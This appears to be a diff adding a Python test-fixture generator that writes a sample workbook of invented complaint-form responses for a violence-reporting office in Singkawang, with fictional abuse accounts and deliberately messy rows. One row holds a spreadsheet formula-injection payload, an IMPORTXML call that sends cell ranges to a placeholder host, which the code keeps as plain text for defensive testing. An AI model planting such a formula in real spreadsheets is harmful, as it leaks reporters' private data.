@@ -1,0 +1,125 @@
+"""A sample workbook of ~40 made-up responses, as the office's form would collect them.
+
+Every name, number and story here is invented. The rows cover what the worker must
+handle: online and hotline entries, anonymous reports, messy phone numbers, en_US
+and id_ID date formats, a double submission, a formula injection attempt, a test
+submission and a row with nothing to act on.
+"""
+
+from __future__ import annotations
+
+import random
+from datetime import datetime, timedelta
+from pathlib import Path
+
+from openpyxl import Workbook
+
+from config.settings import Settings
+from rules.complaint import FIELDS
+
+_REPORTERS = ["Siti Aminah", "Budi Santoso", "Lina Marlina", "Hendra Wijaya", "Nur Aisyah",
+              "Rudi Hartono", "Maria Ulfa", "Agus Salim", "Dewi Lestari", "Yohanes Liu", "", ""]
+_VICTIMS = ["A.R.", "S", "Mawar", "NH", "Melati", "R. (12 th)", "Bunga", "DS", "Kenanga", "L",
+            "Tiara", "Putri", "Anak laki-laki usia 9", "M.F."]
+_PHONES = ["0812-3456-7890", "+62 813 5555 1212", "6285245678901", "0852 4567 8901", "812.9876.5432",
+           "08115678123", "+62-821-4455-6677", "0813 1234", "0562639472", ""]
+_STORIES = [
+    "Korban sering dipukul oleh ayah tirinya ketika mabuk. Tetangga sering mendengar teriakan malam hari.",
+    "Anak saya diganggu teman sekelasnya dan diancam lewat media sosial. Dia tidak mau sekolah lagi.",
+    "Saya dipukul suami dan diusir dari rumah bersama dua anak. Sekarang menumpang di rumah kakak.",
+    "Ada anak tetangga yang ditinggal orang tuanya berhari-hari, tidak makan dan tidak sekolah.",
+    "Murid kami bercerita disentuh secara tidak pantas oleh kerabatnya. Kami butuh pendampingan.",
+    "Teman saya ditawari kerja ke luar negeri, paspornya ditahan dan dia tidak bisa pulang.",
+    "Korban dimarahi dan dihina setiap hari oleh mertua, dilarang bertemu keluarganya.",
+    "Anak perempuan 15 tahun dipaksa menikah dengan pria dewasa oleh keluarganya.",
+    "Istri tetangga sering lebam-lebam di wajah, anaknya juga tampak ketakutan.",
+    "Korban diperas dan diancam fotonya disebarkan oleh mantan pacarnya.",
+]
+_KEC = ["Singkawang Barat", "Singkawang Tengah", "Singkawang Timur", "Singkawang Utara",
+        "Singkawang Selatan"]
+_KEL = {"Singkawang Barat": ["Pasiran", "Melayu", "Kuala"], "Singkawang Tengah": ["Roban", "Sei Wie", "Condong"],
+        "Singkawang Timur": ["Nyarumkop", "Pajintan"], "Singkawang Utara": ["Naram", "Setapuk Besar"],
+        "Singkawang Selatan": ["Sedau", "Sijangkung"]}
+_CONSENT = "Saya setuju data ini digunakan oleh DSP3A Kota Singkawang untuk penanganan pengaduan"
+INJECTION = '=IMPORTXML("http://contoh.invalid/?d="&A2:Z99, "//a")'
+START = datetime(2026, 11, 20, 8, 15, 0)
+
+
+def sample_rows(count: int = 40, seed: int = 7, start: datetime = START) -> list[dict[str, object]]:
+    """`count` responses by field key; the special rows come first."""
+    rng = random.Random(seed)
+    rows: list[dict[str, object]] = []
+    moment = start
+    for i in range(count):
+        moment += timedelta(minutes=rng.randint(20, 400))
+        rows.append(_ordinary(rng, i, moment))
+    if count >= 12:
+        rows[3]["channel"] = "Telepon layanan SAPA"
+        rows[3]["reporter_name"] = ""
+        rows[5]["story"] = INJECTION  # an injection attempt: must stay text
+        rows[5]["victim_name"] = "@SUM(1+1)"
+        rows[7] = {"timestamp": rows[7]["timestamp"], "channel": "", "reporter_relation": "Lainnya",
+                   "consent": _CONSENT}  # nothing to act on
+        rows[9] = {**rows[8], "timestamp": rows[8]["timestamp"] + timedelta(minutes=2)}  # sent twice
+        rows[10] |= {"victim_name": "test", "story": "tes", "reporter_name": "coba", "victim_address": "",
+                     "kelurahan": "", "wa_safe_time": "", "in_danger": "Tidak"}
+        rows[11] |= {"victim_age": "tujuh tahun", "kecamatan": "Singkawang Pusat",
+                     "reporter_phone": "0812-ABC"}
+    return rows
+
+
+def _ordinary(rng: random.Random, i: int, moment: datetime) -> dict[str, object]:
+    kecamatan = rng.choice(_KEC)
+    child = rng.random() < 0.5
+    hotline = rng.random() < 0.25
+    return {
+        "timestamp": moment,
+        "channel": "Telepon layanan SAPA" if hotline else rng.choice(["Formulir online", ""]),
+        "reporter_name": rng.choice(_REPORTERS),
+        "reporter_relation": rng.choice(["Korban sendiri", "Orang tua/keluarga", "Tetangga", "Guru/sekolah"]),
+        "reporter_phone": rng.choice(_PHONES),
+        "wa_safe": rng.choice(["Ya", "Ya", "Tidak", "Hanya pada waktu tertentu", ""]),
+        "wa_safe_time": rng.choice(["", "", "Setelah jam 19.00", "Pagi hari saat suami bekerja"]),
+        "victim_name": rng.choice(_VICTIMS),
+        "victim_sex": rng.choice(["Perempuan", "Perempuan", "Laki-laki"]),
+        "victim_age": rng.choice([str(rng.randint(3, 17)), f"{rng.randint(5, 16)} tahun"]) if child
+        else rng.choice([str(rng.randint(18, 55)), "", "sekitar 30"]),
+        "victim_disability": rng.choice(["Tidak", "Tidak", "Ya", "Tidak tahu", ""]),
+        "kecamatan": kecamatan if rng.random() < 0.95 else "Di luar Kota Singkawang",
+        "kelurahan": rng.choice(_KEL[kecamatan] + [""]),
+        "victim_address": f"Jl. Contoh Gg. {rng.randint(1, 20)} No. {rng.randint(1, 99)}",
+        "violence_types": ", ".join(sorted(rng.sample(["Fisik", "Psikis", "Seksual", "Penelantaran",
+                                                        "Eksploitasi", "Perdagangan orang (TPPO)"],
+                                                       rng.randint(1, 2)))),
+        "incident_place": rng.choice(["Rumah tangga", "Sekolah", "Media sosial/daring", "Fasilitas umum"]),
+        "incident_date": (moment - timedelta(days=rng.randint(0, 20))).strftime(
+            rng.choice(["%d/%m/%Y", "%Y-%m-%d", "%d %B %Y"])),
+        "perpetrator_relation": rng.choice(["Orang tua", "Suami/istri", "Tetangga", "Pacar/teman", "Guru"]),
+        "story": _STORIES[i % len(_STORIES)],
+        "in_danger": rng.choice(["Ya", "Tidak", "Tidak", "Tidak tahu"]),
+        "urgent_needs": ", ".join(rng.sample(["Medis", "Tempat aman", "Pendampingan hukum", "Konseling"],
+                                             rng.randint(0, 2))),
+        "consent": _CONSENT,
+    }
+
+
+def write_responses(path: Path, rows: list[dict[str, object]], settings: Settings,
+                    tab: str = "Respons Formulir 1") -> None:
+    """A workbook holding only the form responses tab, as a fresh form spreadsheet would."""
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.title = tab
+    questions = settings.form.questions
+    sheet.append([questions[f] for f in FIELDS])
+    for row in rows:
+        sheet.append([None] * len(FIELDS))
+        for col, field in enumerate(FIELDS, start=1):
+            value = row.get(field)
+            cell = sheet.cell(row=sheet.max_row, column=col)
+            cell.value = value if value != "" else None
+            if isinstance(value, str):
+                cell.data_type = "s"  # reporters' text is text, even "=IMPORTXML(...)"
+            elif field == "timestamp":
+                cell.number_format = "dd/mm/yyyy hh:mm:ss"
+    book.save(path)
